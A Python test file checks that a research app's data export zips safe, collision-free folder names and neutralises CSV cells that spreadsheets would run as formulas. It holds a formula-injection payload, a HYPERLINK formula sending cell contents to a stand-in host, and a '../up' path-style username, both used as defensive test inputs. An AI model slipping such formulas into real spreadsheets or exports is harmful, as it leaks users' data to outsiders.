"""The study export is safe on every system: folder names that unzip anywhere and never
collide, and CSV cells a spreadsheet will not run as formulas."""

from __future__ import annotations

import csv
import io
import json
import zipfile

from litestar.testing import TestClient

from entrypoints.container import build_container
from entrypoints.http.app import create_app
from tests.http.conftest import memory_settings

TOKEN = "export-secret"
USERNAMES = ("Alice", "alice", "长" * 30 + "•" * 34, "../up", "=HYPERLINK(1)")
INJECTION = '=HYPERLINK("http://example.invalid/?leak="&A1,"click")'


def _archive() -> zipfile.ZipFile:
    container = build_container(memory_settings(INSPILOT_RESEARCH_TOKEN=TOKEN))
    with TestClient(create_app(container)) as client:
        for username in USERNAMES:
            assert client.post("/paint/start", json={"username": username}).status_code == 200
        save = {"username": "Alice", "data": {"designTask": INJECTION, "currentStage": "准备"}}
        assert client.post("/paint/save", json=save).status_code == 200
        response = client.get("/api/v1/export", headers={"Authorization": f"Bearer {TOKEN}"})
    assert response.status_code == 200
    return zipfile.ZipFile(io.BytesIO(response.content))


def test_folder_names_are_short_unique_without_case_collisions_and_keep_the_username() -> None:
    archive = _archive()
    folders = {
        name.split("/")[1] for name in archive.namelist() if name.startswith("participants/")
    }
    assert len(folders) == len(USERNAMES)
    assert len({folder.lower() for folder in folders}) == len(USERNAMES)  # case-insensitive FS
    assert all(len(folder.encode("utf-8")) <= 100 for folder in folders), folders
    assert all(
        set(folder) <= set("abcdefghijklmnopqrstuvwxyz0123456789-长") for folder in folders
    ), folders
    stored = {
        json.loads(archive.read(f"participants/{folder}/session.json"))["username"]
        for folder in folders
    }
    assert stored == set(USERNAMES)


def test_csv_cells_that_would_run_as_formulas_are_neutralised() -> None:
    archive = _archive()
    with archive.open("sessions.csv") as raw:
        rows = list(csv.DictReader(io.TextIOWrapper(raw, encoding="utf-8", newline="")))
    tasks = {row["design_task"] for row in rows}
    assert "'" + INJECTION in tasks and INJECTION not in tasks
    assert "'=HYPERLINK(1)" in {row["username"] for row in rows}
    for row in rows:
        for value in row.values():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), row
